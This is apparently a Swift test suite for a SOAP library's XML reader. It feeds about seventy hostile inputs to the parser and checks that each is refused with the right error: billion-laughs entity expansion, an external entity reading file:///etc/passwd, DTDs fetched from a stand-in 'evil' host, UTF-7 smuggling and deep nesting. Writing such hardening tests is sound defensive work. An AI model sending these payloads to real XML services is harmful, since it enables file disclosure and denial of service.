import Testing

@testable import BuildingSOAP

/// RELIABILITY §4, SOAP row: everything that makes an XML reader fetch, expand, recurse or guess.
@Suite("Attacks on the XML reader")
struct AttackTests {
    static func nested(_ depth: Int) -> String {
        String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
    }

    static let attacks: [(name: String, document: String, code: XMLError.Code)] = [
        (
            "billion laughs",
            "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;'>]><a>&lol2;</a>",
            .documentType
        ),
        ("external entity", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", .documentType),
        ("parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil/x.dtd'> %p;]><a/>", .documentType),
        ("external subset", "<!DOCTYPE a PUBLIC 'x' 'http://evil/x.dtd'><a/>", .documentType),
        ("odd case", "<!doctype a><a/>", .documentType),
        ("after a comment", "<!-- x --><!DOCTYPE a><a/>", .documentType),
        ("after white space", " \r\n\t<!DOCTYPE a><a/>", .documentType),
        ("inside the root", "<a><!DOCTYPE a></a>", .documentType),
        ("entity declaration alone", "<a><!ENTITY x 'y'></a>", .documentType),
        ("unknown entity", "<a>&x;</a>", .entity),
        ("entity of HTML", "<a>&nbsp;</a>", .entity),
        ("entity in an attribute", "<a b='&x;'/>", .entity),
        ("entity without an end", "<a>&lt</a>", .entity),
        ("NUL by reference", "<a>&#0;</a>", .entity),
        ("escape by reference", "<a>&#x1b;</a>", .entity),
        ("surrogate by reference", "<a>&#xD800;</a>", .entity),
        ("beyond Unicode", "<a>&#x110000;</a>", .entity),
        ("negative reference", "<a>&#-1;</a>", .entity),
        ("signed reference", "<a>&#+65;</a>", .entity),
        ("style sheet", "<?xml-stylesheet href='http://evil'?><a/>", .processingInstruction),
        ("instruction inside", "<a><?php evil ?></a>", .processingInstruction),
        ("second declaration", "<a/><?xml version='1.0'?>", .processingInstruction),
        ("late declaration", " <?xml version='1.0'?><a/>", .processingInstruction),
        ("upper-case declaration", "<?XML version='1.0'?><a/>", .processingInstruction),
        ("XML 1.1", "<?xml version='1.1'?><a/>", .syntax),
        ("no version", "<?xml encoding='utf-8'?><a/>", .syntax),
        ("names itself UTF-16", "<?xml version='1.0' encoding='UTF-16'?><a/>", .notUTF8),
        ("names itself UTF-7", "<?xml version='1.0' encoding='UTF-7'?>+ADw-!DOCTYPE a+AD4-<a/>", .notUTF8),
        ("names itself EBCDIC", "<?xml version='1.0' encoding='IBM037'?><a/>", .notUTF8),
        ("deep nesting", nested(33), .tooDeep),
        ("deeper nesting", nested(100_000), .tooDeep),
        ("unclosed nesting", String(repeating: "<a>", count: 100_000), .tooDeep),
        ("many elements", "<a>" + String(repeating: "<b/>", count: 20_000) + "</a>", .tooManyElements),
        (
            "many attributes in all",
            "<a>" + String(repeating: "<b c='' d='' e='' f=''/>", count: 5001) + "</a>", .tooManyElements
        ),
        ("many attributes", "<a " + (0...32).map { "b\($0)='' " }.joined() + "/>", .syntax),
        ("huge attribute", "<a b='" + String(repeating: "x", count: 8193) + "'/>", .syntax),
        ("huge name", "<" + String(repeating: "x", count: 129) + "/>", .syntax),
        ("huge document", "<a>" + String(repeating: "x", count: 1 << 20) + "</a>", .tooLarge),
        (
            "many namespaces",
            (0...2).map { i in "<a " + (0..<30).map { "xmlns:p\(i)x\($0)='u' " }.joined() + ">" }.joined(), .namespace
        ),
        ("same attribute twice", "<a b='1' b='2'/>", .syntax),
        ("same attribute by two prefixes", "<a xmlns:p='u' xmlns:q='u' p:b='1' q:b='2'/>", .namespace),
        ("prefix not declared", "<p:a/>", .namespace),
        ("prefix of an attribute not declared", "<a p:b=''/>", .namespace),
        ("prefix out of its scope", "<a><b xmlns:p='u'/><p:c/></a>", .namespace),
        ("prefix undeclared", "<a xmlns:p=''/>", .namespace),
        ("xmlns declared", "<a xmlns:xmlns='u'/>", .namespace),
        ("xml redeclared", "<a xmlns:xml='u'/>", .namespace),
        ("reserved namespace", "<a xmlns='http://www.w3.org/2000/xmlns/'/>", .namespace),
        ("two colons", "<a:b:c xmlns:a='u'/>", .syntax),
        ("two roots", "<a/><b/>", .syntax),
        ("text after the root", "<a/>x", .syntax),
        ("text before the root", "x<a/>", .syntax),
        ("CDATA before the root", "<![CDATA[x]]><a/>", .syntax),
        ("crossed tags", "<a><b></a></b>", .syntax),
        ("end tag of another prefix", "<p:a xmlns:p='u' xmlns:q='u'></q:a>", .syntax),
        ("end tag alone", "</a>", .syntax),
        ("end of CDATA in text", "<a>]]></a>", .syntax),
        ("two hyphens in a comment", "<a><!-- x -- y --></a>", .syntax),
        ("less-than in an attribute", "<a b='<'/>", .syntax),
        ("attribute without quotes", "<a b=1/>", .syntax),
        ("attributes without a blank", "<a b='1'c='2'/>", .syntax),
        ("name in another script", "<а/>", .syntax),
        ("NUL", "<a>\u{0}</a>", .character),
        ("escape", "<a>\u{1B}</a>", .character),
        ("escape in a comment", "<a><!-- \u{1B} --></a>", .character),
        ("not a character", "<a>\u{FFFF}</a>", .character),
        ("nothing", "", .truncated),
        ("white space", "  \n", .truncated),
        ("cut in text", "<a>text", .truncated),
        ("cut in a tag", "<a b='1'", .truncated),
        ("cut in an attribute", "<a b='1", .truncated),
        ("cut in CDATA", "<a><![CDATA[x]]", .truncated),
        ("cut in a comment", "<a><!-- x", .truncated),
        ("cut after the mark", "<", .truncated),
    ]

    @Test("is refused for the right reason, and never quoted", arguments: attacks.indices)
    func refused(index: Int) throws {
        let attack = Self.attacks[index]
        let error = try #require(throws: XMLError.self, "\(attack.name)") {
            try XMLElement.parse(Array(attack.document.utf8))
        }
        #expect(error.code == attack.code, "\(attack.name): \(error)")
        #expect(!error.description.contains("evil") && !error.description.contains("passwd"))
    }

    @Test("other encodings are refused whatever they call themselves")
    func encodings() throws {
        let document = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
        let ascii = Array(document.utf8)
        let little = ascii.flatMap { [$0, 0] as [UInt8] }
        let big = ascii.flatMap { [0, $0] as [UInt8] }
        let wide = ascii.flatMap { [0, 0, 0, $0] as [UInt8] }
        let overlong: [UInt8] = [0x3C, 0x61, 0x3E, 0xC0, 0xBC, 0x3C, 0x2F, 0x61, 0x3E]
        let latin: [UInt8] = [0x3C, 0x61, 0xE9, 0x3E]
        let cases: [([UInt8], XMLError.Code)] = [
            ([0xFF, 0xFE] + little, .notUTF8), ([0xFE, 0xFF] + big, .notUTF8), (little, .character), (big, .character),
            (wide, .character), (overlong, .notUTF8), (latin, .notUTF8),
        ]
        for (bytes, code) in cases {
            #expect(try #require(throws: XMLError.self) { try XMLElement.parse(bytes) }.code == code)
        }
    }

    @Test("what only looks like an attack is text")
    func harmless() throws {
        for (document, text) in [
            ("<a><![CDATA[<!DOCTYPE x>]]></a>", "<!DOCTYPE x>"), ("<a>&lt;!DOCTYPE x&gt;</a>", "<!DOCTYPE x>"),
            ("<a><!-- <!DOCTYPE x> --></a>", ""), ("<a>&amp;lol;</a>", "&lol;"), ("<a>A<!-- -->B</a>", "AB"),
            ("<a>1<![CDATA[2]]>3&#52;&#x35;</a>", "12345"), ("<a>x\r\ny\rz</a>", "x\ny\nz"),
            ("<a><![CDATA[x\r\ny]]]></a>", "x\ny]"), ("<a>]]&gt;</a>", "]]>"),
            ("<a>after &apos; &quot;</a>", "after ' \""),
        ] {
            #expect(try XMLElement.parse(Array(document.utf8)).text == text)
        }
        #expect(try XMLElement.parse(Array(Self.nested(32).utf8)).children.count == 1)
        let attribute = try XMLElement.parse(Array("<a b='x\r\n\t&#10;&lt;y'/>".utf8)).attributes[0]
        #expect(attribute.value == "x  \n<y")
    }

    @Test("a namespace ends with the element that declares it, and a default one spares attributes")
    func namespaces() throws {
        let root = try XMLElement.parse(
            Array("<a xmlns='u' b='1'><p:c xmlns:p='v' xmlns=''><d/></p:c><e p:f='' xmlns:p='w'/></a>".utf8))
        #expect(root.name == XMLName("u", "a"))
        #expect(root.attribute(XMLName("", "b")) == "1")
        #expect(root.children.map(\.name) == [XMLName("v", "c"), XMLName("u", "e")])
        #expect(root.children[0].children[0].name == XMLName("", "d"))
        #expect(root.children[1].attribute(XMLName("w", "f")) == "")
    }
}
